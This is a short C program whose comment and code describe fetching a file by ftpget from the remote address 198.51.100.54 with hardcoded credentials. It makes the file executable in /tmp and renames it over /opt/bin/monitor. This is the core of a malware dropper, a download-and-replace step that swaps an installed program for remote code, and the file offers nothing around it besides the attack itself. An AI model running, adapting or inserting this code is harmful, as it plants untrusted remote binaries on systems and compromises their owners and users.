/* Fetched to /tmp by popen(), made executable, renamed over a program. */
#include <stdio.h>
#include <sys/stat.h>

int main(void)
{
    FILE *pipe = popen("ftpget -u a -p b 198.51.100.54 /tmp/m monitor", "r");
    if (pipe)
        pclose(pipe);
    chmod("/tmp/m", 0755);
    return rename("/tmp/m", "/opt/bin/monitor");
}
